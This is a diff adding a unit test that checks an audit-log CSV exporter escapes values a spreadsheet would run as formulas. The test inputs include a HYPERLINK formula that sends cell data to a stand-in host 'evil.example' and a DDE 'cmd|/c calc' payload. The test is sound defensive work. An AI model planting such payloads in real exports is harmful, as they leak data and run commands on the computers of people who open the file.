@@ -246,6 +246,19 @@ test('audit: filters by user, host, action and time; CSV export quoted properly,
   assert.equal(exported.address, '192.0.2.10', 'the export names where it was asked from');
 });
 
+test('audit CSV: a field that a spreadsheet would run as a formula is written as text', async () => {
+  const { csvField } = await import('../../server/audit/query');
+  // What a stranger can put in an audit row: the email typed at a failed sign-in, a container's name.
+  assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"x") from 192.0.2.1'), `"'=HYPERLINK(""http://evil.example/?""&A1,""x"") from 192.0.2.1"`);
+  assert.equal(csvField('+1+cmd|/c calc!A0'), "'+1+cmd|/c calc!A0");
+  assert.equal(csvField('-2+3'), "'-2+3");
+  assert.equal(csvField('@SUM(1)'), "'@SUM(1)");
+  assert.equal(csvField('\t=1'), "'\t=1");
+  assert.equal(csvField('web=1'), 'web=1', 'only a leading sign makes a formula');
+  assert.equal(csvField('2026-01-01T00:00:00.000Z'), '2026-01-01T00:00:00.000Z');
+  assert.equal(csvField(null), '');
+});
+
 test('audit retention deletes only rows older than the retention, per team setting or BERTH_AUDIT_RETENTION_DAYS', async () => {
   const w = await makeWorld(env.prisma);
   const { pruneAudit, envRetentionDays } = await import('../../server/audit/retention');
